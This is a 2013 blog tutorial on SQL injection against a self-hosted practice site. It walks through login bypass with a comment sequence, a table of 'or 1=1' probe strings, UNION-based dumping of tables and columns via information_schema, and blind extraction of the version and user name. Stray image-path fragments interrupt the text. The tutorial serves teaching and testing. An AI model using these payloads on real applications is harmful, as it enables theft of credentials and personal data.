Tag Archives: dumping the database using sql injection

SQL Injection exploitation and dumping the database

SQL Injection:

SQL Injection is a web based attack used by attackers to steal sensitiveinformation from organizations through web applications. It is one of the most common application layer attacks used since a  long time. This attack takes advantage of improper coding of web applications, which allow an attacker to exploit the vulnerability by injecting SQL commands into the prior web application. The underlying fact that allows for SQL Injection is that the fields available for user input in the web application allow SQL statements to pass through and interact with or query the databasedirectly.

For example, let us consider a web application that implements a form-based login mechanism to store the user credentials and performs a simple SQL query to validate each login attempt. Here is a typical example:

select * from users where username=’admin’ and password=’admin123′;

If the attacker knows the username of the application administrator is admin, then he can log into the app as admin by entering the username as admin’–and without supplying any password. The query in the back-end looks like:

Select * from users where username=’admin’--’ and password=’xxx’;

Note the comment sequence (–-) causes the followed query to be ignored, so query executed is equivalent to:

Select * from users where username=’admin’;

Hence the password check is bypassed and the attacker is logged into the app as admin.

Different types of SQL Injections:

SQL Injection can be classified into 3 types based on the way it is exploited : In-band, Out-band and Inferior.

1.In-band:

This is also called as Error-based or Union based SQL Injection or first order Injection. The application is said to be vulnerable to In-band when the communication between the attacker and the application happens through a single channel. I.e. the attacker uses the same channel to enter the malicious string and to retrieve the data from the database. This is a straight forward technique. The application directly displays the retrieved data on the web pages.

Confirming the Vulnerability:

Below URL is In-band SQLI vulnerable practice site which I setup in my vmbox.

Accessing to the URL displays the home page as shown in the belowimage.

Sqlinjection demo

Now let us try to confirm the vulnerability by simply adding a single quote at the end of the URL:'

The above URL shows an error on the web page, saying that Error in your SQL Syntax. This is because of an extra single quote (‘) that we have entered through the URL into the query in the background. So by seeing the error we can understand that the URL is vulnerable to In-band SQLI. Below image shows you the erroroccurred due to concatenating the special character (‘).

Sqlinjection error

If single quote (‘) is blocked, then we can try using “or 1=1 –” or “and 1=1” at the end of the URL. or 1=1 -- (or) and 1=1 --

Above URL shows the same page that has been displayed while accessingthe URL:

This is because the condition that we have entered at the end of the URL is always true.

Now try to access by entering the string “or 1=0–“or “and 1=0–”. So the URL looks like: or 1=0-- (or) and 1=0--

Now we will not be able to access the page, because the condition “1=0” is always false. Below image shows the page when accessed with false condition.

Sqlinjection confirmation

Then we can confirm that URL is vulnerable to SQLI.

The string listed in the below table can be used to confirm SQL Injection

or 1=1‘or 1=1“or 1=1or 1=1–‘or 1=1–“or 1=1–
or 1=1#‘or 1=1#“or1=1#  or 1=1/*‘or 1=1/*
“or 1=1/*or 1=1;%00‘or 1=1;%00“or 1=1;%00‘or’‘or
‘or’–‘or–or a=a‘or a=a“or a=aor a=a–
‘or a=a —“or a=a–or ‘a’=’a’‘or ‘a’=’a’“or ‘a’=’a’‘)or(‘a’=’a’

You can try all the combinations for string “or a=a” that we have tried for “or 1=1”….. Like #,–, /* etc…


Moving further, we can extract or dump the complete database by using “UNION” and “SELECT” commands.


We can find out DBMS type (MS-SQL, MYSQL, ORACLE) by using the unique functions of the appropriate database. For example to find out the database user, all the above databases have different syntax.

MS-SQL: user_name()
MYSQL: user ()
ORACLE: select user from dual;

So let’s try to find the DBMS of our SQLI vulnerable site. As a first trial I am entering “user_name()” at the place where we had “2”. union select 1,user_name(),3,4,5,6,7Above URL gives an error saying “Function user_name doesn’t exist”. Which means the DBMS isn’t MS-SQL.

Find database in Sql injection

Above image shows that the DBMS isn’t MS-SQL. Now let’s try with “user ()” union select 1,user(),3,4,5,6,7

Above URL display the user name of the DBMS. So we confirm that the DBMS is MYSQL.

Sqli - fetch database username

Above image shows the database user name which proves that the DBMS is MYSQL.

So we can use all the MYSQL functions in the place of 2,3,5,7 and dump the database on the web page.


Let us try to find out the number of columns in the table using UNION.  The URL looks like: union select NULL

Displays an error in the page saying “Select statement having different number of columns” .Now we understood that there are more than one column in thetable.

finding number of columns using sql injection

Image shows the error message occurred by accessing the web site using above URL (Using select NULL). So try adding one more NULL. union select NULL, NULL

Still if we are receiving the same error, then keep on adding the NULL to the query and try to find out number of columns in the table. union select NULL, NULL, NULL, NULL, NULL, NULL, NULL

The above string gives you the same page as the initial URL as the number of columns in the table is seven.finding columns usingsl injection by using order by

Figure shows the page when accessed with above URL. (Using seven NULL’S).

We can also use “ORDER BY” to find out the number of columns in the table. order by 7--

So we can understand that there are seven columns in the table.

Now here is the trick. Where will we be able to see the extracted data from the database?

Just add a negative sign before the id value. Then the data appears on the web page straight away. union select 1,2,3,4,5,6,7

(Note: Negative sign (-) before 22)Then the application displays some of the numbers on the web page.  Above URL displays 2,3,5,7 on the web page.

display content on web page using sql injection

Figure shows the numbers displayed on the web page.

Finding the version and getting the databases: union select 1,@@version,database(),4,5,6,7

finding version of database using sql injection

Figure display the database version “5.0” and thedatabase “nilakantatrust”.

Extracting Tables from database:

Now let us try extractingall the tables from the database “nilakantatrust”. union select 1,group_concat(table_name),3,4,5,6,7 from information_schema.tables where table_schema=database()--

extract tables using sql injection

Figure shows all the tables dumped from the database “nilakantatrust”.

Information_schema is the table which contains meta-data, nothing but information about all the tables and columns of the database.

Extracting columns from the tables: union select 1,group_concat(column_name),3,4,5,6,7 from information_schema.columns where table_schema=database()--

extracting columns using sql injection
Figure displays all the columns of the tables in the database “nilakantatrust”.  We can look at all the columns and then dump the interesting columns like passwords, SSN, Credit card numbers etc…

2. Out-Band:

This kind of an attack uses two different channels for communication between attacker and the application. Modern DBMS has very powerful applications and their features go behind simply returning the data to the users. They can be instructed to send an e-mail and they can also interact with file system. All of these functionalities are very helpful for an attacker. Attacker establishes directconnection to the database through one channel to insert the data or the malicious string into the database. DBMS responds through new channel, like e-mails, or executing the commands using xp_cmdshell etc….

3. Inferred:

This is also known as Blind – SQL – Injection. Here the server doesn’t responds with any syntax error or other means of notifications. This is very similar to normal SQL Injection but when attacked server doesn’t send any data to the attacker. Attacker need to retrieve the data by asking true or false questions through SQL commands.

The attacker needs to execute his commands by observing the response of the application.  This makes exploiting a SQL Injection attack more difficult but not impossible.

Now let’s have some practice:  and 1=1 --The above URL gives the same data as of original site.  and 1=0 --

Above URL shows an error on the web page, as I explained you previously. (In “in-band” type)


To find out the DBMS used by the application we need to make use of different pre-defined functions available for different databases

For example, To find out the user name of the database following syntax is used by different DBMS

  • MS-SQL: user_name()
  • Mysql: user()
  • Oracle: select user from dual

You can know the difference from the cheat-sheet available at

So, let us find out the DBMS using the above functions 😉

Accessing the below URL gives you a white page.

blind sql injection

Observe the white page in Figure which is different from the URL:

as we have seen the page previously. By observing this difference we can extract the DBMS type of the application.Let us check whether the application is using MS-SQL:

In the above URL I am trying to add 1 to the id ‘21’ based on the condition. When we access the URL with ID=21 we get the page as shown in Figure (m) and when we access URL with ID=22 we get the home page as shown in Figure (a).

In the URL %2b indicates ‘+’ and %20 indicates ‘  ‘ (space). It is called URL encoding. When particular symbol is filtered we can pass those symbols by encoding using different encoding techniques available.

And the condition in the query is framed using “case” statement along with “user_name” (A pre-defined function in MS-SQL to return DB user name). If the function user_name() is found then the condition returns ‘1’ which makes the ID=22 else it returns ‘0’ and the Id remains ‘21’

finding database using blind sql injection

Figure shows page which confirms that the DBMS isn’t MS-SQL.  So, now let us check for “MYSQL”

Above URL shows the page with ID=22 which confirms that the DBMS is MYSQL.

Finding the version:

To find the database version we can use ‘substring’ function in MYSQL. Observe the below URL,1,1)=5--

If the database version is ‘5’ then the substring function returns ‘5’ (as we are trying to extract only one character), where we are comparing the resultant value with ‘5’. Then if we are able to see the home page, we can confirm that the database is something like 5.x.x version.If the URL doesn’t pops up the home page, then we can try changing the comparing value to 4,3 etc…

To find the exact version of the database we need to compare the second character of the version. For example


So, by observing the responses of the application we can extract complete version of the database.

Finding the User Name of the database:

We can find out the user name of the database by using both ‘case’ statement and ‘substring’ function.,1,1)='a')%20then%200%20else%201%20end)--

Based on the responses of the application keep on changingthe character in the function substr().
Once we get the first letter of the user name then move on to find out the second letter.

For example:

substr(user(),3,1)=’b’ ….

In this fashion, to find out a single character in the user name, we have to send more than 200 request will all possible ASCII characters to the server. This technique can be optimized we can extract a single character from the database with in 8 requests.


SQL Injection is a powerful attack technique which can be used to dump complete database of the application.

I have written this article for infosec institute. Take a look at the web application security course offered by infosecinstitute.



Posted by on January 7, 2013 in web application hackingComments Off on SQL Injection exploitation and dumping the database

Tags: , , , ,